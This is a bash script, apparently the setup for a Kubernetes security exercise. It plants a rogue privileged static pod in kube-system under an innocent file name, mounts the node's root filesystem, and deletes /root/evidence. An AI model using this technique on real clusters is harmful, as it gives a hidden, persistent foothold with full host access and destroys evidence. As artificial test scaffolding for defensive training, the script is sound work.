#!/usr/bin/env bash
# Runs on the control-plane node (KUBECONFIG=/etc/kubernetes/admin.conf).
# A rogue static pod: a manifest dropped into the kubelet's staticPodPath under an innocent file
# name ($PARAM_MANIFEST_FILE), defining a privileged Pod $PARAM_POD_NAME in kube-system that mounts
# the node's root. The kubelet runs it and shows it in the API as mirror Pod <name>-<node>.
set -euo pipefail
DIR=$(sed -n 's/^staticPodPath:[[:space:]]*//p' /var/lib/kubelet/config.yaml | tr -d "\"'")
DIR=${DIR:-/etc/kubernetes/manifests}
rm -rf /root/evidence
cat > "$DIR/$PARAM_MANIFEST_FILE" <<YAML
apiVersion: v1
kind: Pod
metadata:
  name: $PARAM_POD_NAME
  namespace: kube-system
  labels: { app: $PARAM_POD_NAME, tier: node }
spec:
  containers:
  - name: agent
    image: busybox:1.36.1
    command: ["sh", "-c", "echo agent up; while true; do sleep 3600; done"]
    securityContext:
      privileged: true
    volumeMounts:
    - { name: host, mountPath: /host }
  volumes:
  - name: host
    hostPath: { path: / }
YAML
# Wait (bounded) until the kubelet shows the mirror Pod.
for _ in $(seq 1 60); do
  kubectl -n kube-system get pods -l app="$PARAM_POD_NAME" -o name | grep -q . && break
  sleep 1
done
